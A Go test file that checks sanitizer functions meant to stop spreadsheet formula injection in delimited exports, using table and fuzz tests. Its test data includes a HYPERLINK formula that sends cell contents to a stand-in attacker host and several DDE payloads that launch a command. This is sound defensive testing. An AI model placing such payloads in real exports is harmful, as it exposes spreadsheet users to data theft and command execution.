package delimited

import (
	"strings"
	"testing"
)

// formulas are texts that spreadsheets run, or take for something else than
// text, when they stand at the start of a cell.
var formulas = []string{
	"=1+1", "=", "==1", "+1+1", "-1+1", "@SUM(A1)", "|cmd", "%0A",
	`=HYPERLINK("http://attacker.example?x="&A1,"click")`, "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
	"\t=1+1", "\ttext", "\r=1+1", "\rtext", "\n=1+1", "\ntext", "\x00=1+1",
	" =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x01=1+1",
	"＝1+1", "＋1", "－1", "＠A1", "｜cmd", "％1", "﹢1", "﹣1", "﹦1", "﹫A", "⁺1", "₌1", "\u22121",
	" \t=1", "\u200b\r=1",
}

func TestNeutral(t *testing.T) {
	if len(formulas) < 30 {
		t.Fatalf("only %d starts of formulas", len(formulas))
	}
	for _, f := range formulas {
		if got := Neutral(f); got != "'"+f {
			t.Errorf("Neutral(%q) = %q, want an apostrophe in front", f, got)
		}
	}
	for _, plain := range []string{
		"", " ", "text", "a=1", "1-1", "90 days", "2026-11-20", "A.8.13", "'=1", "\"=1\"", "(=1)", "[-1]", "x\n=1", "x\t-1", "ä=1", "漢字", "😀=1", "*", "#REF!", "&", "~", "/etc", "\u200btext",
	} {
		if got := Neutral(plain); got != plain {
			t.Errorf("Neutral(%q) = %q, want it unchanged", plain, got)
		}
	}
}

// FuzzNeutral checks that a neutral text is safe by its first character and that
// nothing but the apostrophe was added.
func FuzzNeutral(f *testing.F) {
	for _, x := range formulas {
		f.Add(x)
	}
	f.Add("plain")
	f.Fuzz(func(t *testing.T, text string) {
		got := Neutral(text)
		if got != text && got != "'"+text {
			t.Fatalf("Neutral(%q) = %q", text, got)
		}
		if got != "" && strings.ContainsRune("=+-@|%\t\r\n\x00", rune(got[0])) {
			t.Fatalf("Neutral(%q) = %q can start a formula", text, got)
		}
		if Neutral(got) != got {
			t.Fatalf("Neutral(%q) is not stable", text)
		}
	})
}

func TestStored(t *testing.T) {
	for text, want := range map[string]string{
		"=1": "'=1", "a;=1+1": "a;'=1+1", `say "=1"`: `say "'=1"`, "a, -5": "a, -5", "x\t@A": "x\t'@A", "5;%": "5;%", "a,＝1": "a,'＝1", "plain, text": "plain, text",
		"x\n=1": "x\n'=1", "x\r\n+1": "x\r\n'+1", "x\x00@A": "x\x00'@A", "a;\u00a0=1": "a;\u00a0'=1", "a,\u3000＠A": "a,\u3000'＠A", "a\";=cmd|' /C calc'!A0": "a\";'=cmd|' /C calc'!A0",
		"- one\n- two": "'- one\n'- two", "a; +1": "a; +1", "=1;=2": "'=1;'=2", "\xef": "\xef", "a;|b": "a;|b",
	} {
		if got := Stored(text); got != want {
			t.Errorf("Stored(%q) = %q, want %q", text, got, want)
		}
	}
}

// FuzzStored checks that no cell of a stored text starts a formula, whatever
// parts the cells, and that nothing but apostrophes was added.
func FuzzStored(f *testing.F) {
	for _, x := range formulas {
		f.Add("a;" + x)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := Stored(text)
		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(text, "'", "") {
			t.Fatalf("Stored(%q) = %q", text, got)
		}
		for _, cell := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune(",;\t|\r\n\x00\"", r) }) {
			if strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Fatalf("Stored(%q) = %q can start a formula with %q", text, got, cell)
			}
		}
		if Stored(got) != got {
			t.Fatalf("Stored(%q) is not stable", text)
		}
	})
}
